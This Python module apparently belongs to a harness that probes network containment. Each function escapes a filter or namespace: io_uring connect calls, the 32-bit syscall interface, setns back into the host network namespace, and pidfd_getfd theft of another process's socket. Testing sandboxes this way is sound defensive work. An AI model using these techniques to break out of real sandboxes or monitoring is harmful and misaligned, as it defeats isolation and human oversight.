"""Ways round a filter or out of a namespace."""

import ctypes
import os
import socket
import struct

from ways import native
from ways.way import Missing, Targets, way

_NEWNET = 0x4000_0000
_OPEN, _GET = 434, 438  # pidfd_open(2), pidfd_getfd(2): the same numbers on every processor
_NOT_THERE = -38  # ENOSYS


def _assembly(to: Targets) -> object:
    if to["helper"] is None:
        raise Missing("no C compiler")
    return ctypes.CDLL(to["helper"])


def _network(to: Targets) -> object:
    return struct.unpack("=I", socket.inet_aton(to["host"]))[0], struct.unpack("=H", struct.pack(">H", to["port"]))[0]


@way("io_uring", hidden=True, quiet=True)
def io_uring(to: Targets) -> object:
    """SOCKET and CONNECT of io_uring: system calls that no filter of connect sees."""
    result = _assembly(to).by_ring(*_network(to))
    if result == _NOT_THERE and to["control"]:
        raise Missing("the kernel has no io_uring")


@way("calls of a 32-bit program", hidden=True, quiet=True)
def foreign(to: Targets) -> object:
    """The interrupt by which 32-bit programs call: other numbers for the same calls."""
    result = _assembly(to).by_interrupt(*_network(to))
    if result == _NOT_THERE and to["control"]:
        raise Missing("the kernel knows no other processor's calls")


@way("back into the machine's namespace (setns)", hidden=True)
def setns(to: Targets) -> object:
    if os.getuid():
        raise Missing("only root may enter a namespace that is not its own")
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.setns(os.open(to["network"], os.O_RDONLY), _NEWNET) and to["control"]:
        raise OSError(ctypes.get_errno(), "no way back")
    native.connect(to)


@way("another's connection (pidfd_getfd)", hidden=True, quiet=True)
def taken(to: Targets) -> object:
    """Take the open connection of a process outside, and write to it."""
    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(_OPEN, to["keeper"], 0)
    number = libc.syscall(_GET, process, to["kept"], 0)
    if number < 0 and to["control"]:
        raise Missing("the kernel lets nobody take another's descriptors")
    if number >= 0:
        libc.write(number, b"late", 4)
